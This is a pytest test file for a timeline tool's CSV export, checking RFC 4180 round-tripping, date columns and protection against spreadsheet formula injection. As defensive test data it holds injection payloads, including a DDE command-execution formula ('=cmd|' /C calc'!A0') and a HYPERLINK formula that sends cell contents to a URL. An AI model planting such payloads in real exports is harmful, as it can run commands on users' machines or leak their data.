"""The CSV export: RFC 4180 that Python's `csv` reads back cell for cell, a row per quote (and one
for an event without quotes), and no cell a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from timelines import HOSTILE, LOADABLE, big_timeline, fixture_timeline, hostile_timeline

from tui.dates import Bound, PartialDate
from tui.export import ExportRequest, select_events
from tui.export.csv_format import BYTE_ORDER_MARK, COLUMNS, GUARD, guard, render_csv
from tui.loader import bundled_timeline_path, load_timeline
from tui.model import Event, Quote, Source, Timeline
from tui.search import parse_query

BUNDLED = load_timeline(bundled_timeline_path())
FORMULA_FIRST = set("=+-@\t\r\0")
"""What a cell must not start with (OWASP's list, with ASVS 1.2.10's NUL)."""


def rows_of(text: str) -> list[dict[str, str]]:
    assert text.startswith(BYTE_ORDER_MARK)
    limit = csv.field_size_limit(len(text))  # the hostile files hold cells past the reader's 128 KiB default
    try:
        table = list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))
    finally:
        csv.field_size_limit(limit)
    assert table[0] == list(COLUMNS)
    assert all(len(row) == len(COLUMNS) for row in table), "every record has every column"
    return [dict(zip(COLUMNS, row)) for row in table[1:]]


def export(timeline: Timeline, events: list[Event] | None = None) -> list[dict[str, str]]:
    return rows_of(render_csv(ExportRequest(timeline, list(timeline.events) if events is None else events)))


def unguarded(cell: str) -> str:
    """The value as written: the reading rule the module documents."""
    return cell.removeprefix(GUARD)


def assert_no_formula(cell: str) -> None:
    assert cell[:1] not in FORMULA_FIRST, repr(cell[:20])
    assert cell.lstrip()[:1] not in set("=+-@"), repr(cell[:20])


def expected_rows(request: ExportRequest) -> list[tuple[str, str]]:
    """(event id, quote text) for each row the export should have, in order."""
    return [(event.id, quote.text) for event in request.events for quote in event.quotes or (Quote("", ""),)]


def check(timeline: Timeline) -> list[dict[str, str]]:
    request = ExportRequest(timeline, list(timeline.events))
    rows = rows_of(render_csv(request))
    for row in rows:
        for cell in row.values():
            assert_no_formula(cell)
    assert [(unguarded(row["event_id"]), unguarded(row["quote"])) for row in rows] == expected_rows(request)
    return rows


def test_the_bundled_timeline_round_trips_with_every_quote_exact():
    rows = check(BUNDLED)
    quotes = [quote for event in BUNDLED.events for quote in event.quotes]
    quoteless = [event for event in BUNDLED.events if not event.quotes]
    assert len(rows) == len(quotes) + len(quoteless)
    assert [row["quote"] for row in rows if row["quote"]] == [quote.text for quote in quotes]
    assert {row["event_id"] for row in rows} == {event.id for event in BUNDLED.events}
    sources = BUNDLED.sources_by_id
    for row, quote in zip(rows, quotes):
        source = sources[quote.source]
        assert row["speaker"] == (quote.speaker or "")
        assert (row["source_id"], row["source_title"], row["url"]) == (source.id, source.title, source.url or "")
        assert (row["publisher"], row["author"]) == (source.publisher or "", source.author or "")
        assert row["source_date"] == (source.date.iso() if source.date else "")


def test_an_event_without_quotes_keeps_a_row_with_empty_quote_columns():
    timeline = fixture_timeline()
    rows = check(timeline)
    assert len(rows) == sum(len(event.quotes) or 1 for event in timeline.events)
    first = rows[0]
    assert (first["event_id"], first["title"], first["tags"]) == (
        "review-begins",
        "Review of case records begins",
        "review",
    )
    assert all(first[name] == "" for name in COLUMNS[COLUMNS.index("quote") :])


def test_dates_come_as_written_and_as_first_and_last_days():
    source = Source("s", "S", "report", PartialDate(2020, 4), publisher="P")
    quote = (Quote("s", "Words."),)
    events = [
        Event("year", PartialDate(2017), "T", "S", quote),
        Event("range", PartialDate(2005), "T", "S", quote, end=PartialDate(2014, 2)),
        Event("circa", PartialDate(2019), "T", "S", quote, approximate=True, uncertain=True),
        Event("by", PartialDate(2014), "T", "S", quote, bound=Bound.OPEN_START),
        Event("later", PartialDate(2018, 6), "T", "S", quote, bound=Bound.OPEN_END),
    ]
    rows = {row["event_id"]: row for row in export(Timeline("T", (source,), tuple(events)))}
    days = {name: (row["date"], row["date_edtf"], row["start"], row["end"]) for name, row in rows.items()}
    assert days == {
        "year": ("2017", "2017", "2017-01-01", "2017-12-31"),
        "range": ("2005 – February 2014", "2005/2014-02", "2005-01-01", "2014-02-28"),
        "circa": ("probably c. 2019", "2019%", "2019-01-01", "2019-12-31"),
        "by": ("by 2014", "../2014", "", "2014-12-31"),
        "later": ("June 2018 or later", "2018-06/..", "2018-06-01", ""),
    }
    assert rows["year"]["source_date"] == "2020-04"


def test_the_file_opens_with_a_byte_order_mark_and_ends_records_with_crlf():
    text = render_csv(ExportRequest(BUNDLED, list(BUNDLED.events)))
    assert text.startswith("\ufeffevent_id,date,date_edtf,start,end,title,tags,quote,speaker,source_id,")
    assert text.endswith("\r\n")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")


def test_commas_quotes_and_line_breaks_stay_inside_their_cell():
    text = 'She said, "no"\nand then\r\nleft'
    source = Source("s", 'A "title", with commas', "article", publisher="P")
    event = Event("e", PartialDate(2020), "T, with a comma", "S", (Quote("s", text),), tags=("a", "b,c"))
    output = render_csv(ExportRequest(Timeline("T", (source,), (event,)), [event]))
    assert '"She said, ""no""\nand then\r\nleft"' in output, "RFC 4180: a quoted field, its quotes doubled"
    [row] = rows_of(output)
    assert (row["quote"], row["source_title"], row["title"], row["tags"]) == (
        text,
        'A "title", with commas',
        "T, with a comma",
        "a; b,c",
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://example.org/?"&A1,"x")', '\'=HYPERLINK("https://example.org/?"&A1,"x")'),
        ("+1", "'+1"),
        ("- the report said", "'- the report said"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("\n-1", "'\n-1"),
        ("'=1", "''=1"),
        ("'Tis so", "''Tis so"),
        ("", ""),
        (" ", " "),
        ("a = b", "a = b"),
        ("2019-07", "2019-07"),
        ("c. 2019", "c. 2019"),
        ("../2014", "../2014"),
        ("\u2018quoted\u2019", "\u2018quoted\u2019"),
    ],
)
def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_made_text(value, written):
    assert guard(value) == written
    assert unguarded(guard(value)) == value
    assert_no_formula(guard(value))


def test_the_guard_is_on_every_column_and_shows_in_the_cell():
    source = Source("s", "=title", "article", PartialDate(2020), publisher="+publisher", author="-author", url="@u")
    event = Event("e", PartialDate(2020), "=cmd|' /C calc'!A0", "S", (Quote("s", "-1", speaker="@me"),), tags=("=t",))
    [row] = export(Timeline("T", (source,), (event,)))
    assert row["title"] == "'=cmd|' /C calc'!A0"
    assert (row["quote"], row["speaker"], row["tags"]) == ("'-1", "'@me", "'=t")
    assert (row["source_title"], row["publisher"], row["author"], row["url"]) == (
        "'=title",
        "'+publisher",
        "'-author",
        "'@u",
    )


def test_the_fixture_and_hostile_timelines_export_safely():
    check(fixture_timeline())
    [row] = check(hostile_timeline())
    assert row["quote"] == hostile_timeline().events[0].quotes[0].text


@pytest.mark.parametrize("name", LOADABLE)
def test_every_loadable_hostile_file_exports_safely(name):
    check(load_timeline(HOSTILE / name))


def test_a_span_with_a_query_exports_only_its_events():
    start, end = PartialDate(2017, 7, 3), PartialDate(2020, 4, 23)
    events = select_events(BUNDLED, start, end, parse_query("tag:letter or review"))
    assert events and len(events) < len(BUNDLED.events)
    rows = export(BUNDLED, events)
    assert [row["event_id"] for row in rows] == [event.id for event in events for _ in event.quotes or (None,)]


def test_an_empty_selection_is_the_header_alone():
    assert render_csv(ExportRequest(BUNDLED, [])) == BYTE_ORDER_MARK + ",".join(COLUMNS) + "\r\n"


def test_the_same_request_renders_the_same_bytes():
    assert render_csv(ExportRequest(BUNDLED, list(BUNDLED.events))) == render_csv(
        ExportRequest(load_timeline(bundled_timeline_path()), list(BUNDLED.events))
    )


def test_a_hundred_thousand_events_render_whole():
    """How fast is a benchmark's question (benchmarks/run.py), never a timed test's."""
    timeline = big_timeline()
    text = render_csv(ExportRequest(timeline, list(timeline.events)))
    assert text.count("\r\n") == 1 + len(timeline.events)


awkward = st.one_of(
    st.text(max_size=8).map(lambda text: text.replace("\0", "\u2400")),
    st.lists(
        st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "\n", "\r\n", " ", ",", '"', ";", "\u00a0", "x"]),
        max_size=5,
    ).map("".join),
)
"""Any text a timeline can hold (a NUL is ␀ once loaded; see the test below), and text made of
what CSV and spreadsheets treat specially."""


def test_a_nul_from_a_timeline_made_in_code_is_written_as_the_loader_shows_it():
    """Python 3.10's csv module raised 'need to escape' on a NUL."""
    source = Source("s", "Title", "article", PartialDate(2020), publisher="\0x")
    event = Event("e", PartialDate(2020), "a\0b", "S", (Quote("s", "\0"),))
    [row] = export(Timeline("T", (source,), (event,)))
    assert (row["title"], row["publisher"], unguarded(row["quote"])) == ("a\u2400b", "\u2400x", "\u2400")


@settings(max_examples=200, deadline=None)
@given(awkward, awkward, awkward, st.none() | awkward, st.lists(awkward, max_size=3), awkward, st.none() | awkward)
def test_any_text_reads_back_the_same_and_never_as_a_formula(title, quote, source_title, speaker, tags, publisher, url):
    source = Source("s", source_title, "article", PartialDate(2020, 1, 2), publisher=publisher, url=url)
    quotes = (Quote("s", quote, speaker), Quote("s", title))
    events = (
        Event("e", PartialDate(2020), title, "S", quotes, tags=tuple(tags)),
        Event("f", PartialDate(2021), quote, "S", ()),
    )
    rows = export(Timeline("T", (source,), events))
    assert len(rows) == 3
    for row in rows:
        for cell in row.values():
            assert_no_formula(cell)
    read = [{name: unguarded(cell) for name, cell in row.items()} for row in rows]
    assert [row["quote"] for row in read] == [quote, title, ""]
    assert [row["title"] for row in read] == [title, title, quote]
    assert read[0]["speaker"] == (speaker or "") and read[1]["speaker"] == ""
    assert read[0]["tags"] == "; ".join(tags)
    assert (read[0]["source_title"], read[0]["publisher"], read[0]["url"]) == (source_title, publisher, url or "")
    assert all(row[name] == "" for name in COLUMNS[COLUMNS.index("quote") :] for row in read[2:])
